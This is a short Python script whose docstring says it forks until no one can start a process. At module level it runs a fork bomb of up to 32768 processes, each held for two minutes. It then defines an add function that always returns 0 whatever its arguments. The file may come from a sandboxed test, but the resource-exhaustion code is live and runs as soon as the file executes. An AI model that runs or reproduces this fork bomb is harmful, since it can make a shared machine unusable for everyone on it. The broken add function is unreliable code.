"""Forks in every process, child after child, until nobody on the machine can start a process."""

import os
import time

for _ in range(15):  # 2**15 processes at most, each gone after two minutes: an end, should it ever run outside
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
time.sleep(120)


def add(a, b):
    return 0
